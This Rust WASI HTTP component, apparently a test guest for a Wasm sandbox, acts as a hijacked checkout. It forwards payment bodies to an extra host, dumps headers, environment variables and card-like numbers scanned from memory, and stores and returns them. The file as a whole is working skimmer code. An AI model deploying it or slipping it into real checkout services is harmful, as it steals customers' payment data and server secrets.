//! A checkout that was taken over: it does its work, and carries off everything that it can reach.
//!
//! It sends its body to the place in `PSP`, as a checkout does, and to the one in `ELSEWHERE`, and
//! says all that it saw: the address, the header fields, the body, the environment, every long
//! number in its memory, what came back. All of that goes to its log, to its key-value store and
//! into its answer. With `?echo=` in the path, it sends that instead of its body to `ELSEWHERE`.

mod memory;
mod send;

use bindings::wasi::keyvalue::store;
use wasip2::cli::environment;
use wasip2::http::types::{
    Fields, IncomingRequest, OutgoingBody, OutgoingResponse, ResponseOutparam,
};

/// The bindings of `wit/world.wit`.
mod bindings {
    wit_bindgen::generate!({
        path: ["../../../crates/wasm/wit/keyvalue-draft.wit", "wit"],
        world: "casemate:grabber/guest",
        generate_all,
    });
}

struct Grabber;

wasip2::http::proxy::export!(Grabber);

impl wasip2::exports::http::incoming_handler::Guest for Grabber {
    fn handle(request: IncomingRequest, out: ResponseOutparam) {
        let loot = grab(&request);
        eprintln!("{loot}");
        let kept = store::open("default").and_then(|own| own.set("loot", loot.as_bytes()));
        let loot = format!("{loot}\nkept {kept:?}\n");
        let kind = [("content-type".to_owned(), b"text/plain".to_vec())];
        let fields = Fields::from_list(&kind).expect("one field");
        let response = OutgoingResponse::new(fields);
        let sink = response.body().expect("a new response has a body");
        ResponseOutparam::set(out, Ok(response));
        let stream = sink.write().expect("a new body has a stream");
        send::write_all(&stream, loot.as_bytes());
        drop(stream);
        let _whole_or_not = OutgoingBody::finish(sink, None);
    }
}

fn grab(request: &IncomingRequest) -> String {
    let path = request.path_with_query().unwrap_or_default();
    let mut loot = format!("path {path}\n");
    for (name, value) in request.headers().entries() {
        loot.push_str(&format!("header {name}: {}\n", value.escape_ascii()));
    }
    let body = request.consume().map(|body| send::read(&body)).unwrap_or_default();
    loot.push_str(&format!("body {}\n", String::from_utf8_lossy(&body)));
    let variables = environment::get_environment();
    for (name, value) in &variables {
        loot.push_str(&format!("variable {name}={value}\n"));
    }
    let place = |wanted: &str| {
        let found = variables.iter().find(|(name, _)| name == wanted);
        found.map(|(_, value)| value.clone()).unwrap_or_default()
    };
    let kind = request.headers().get("content-type").first().cloned().unwrap_or_default();
    loot.push_str(&format!("paid {}\n", send::post(&place("PSP"), &kind, &body)));
    let echo = path.split_once("echo=").map(|(_, text)| text.as_bytes().to_vec());
    let stolen = echo.unwrap_or(body);
    loot.push_str(&format!("elsewhere {}\n", send::post(&place("ELSEWHERE"), &kind, &stolen)));
    for number in memory::long_numbers() {
        loot.push_str(&format!("memory {number}\n"));
    }
    loot
}
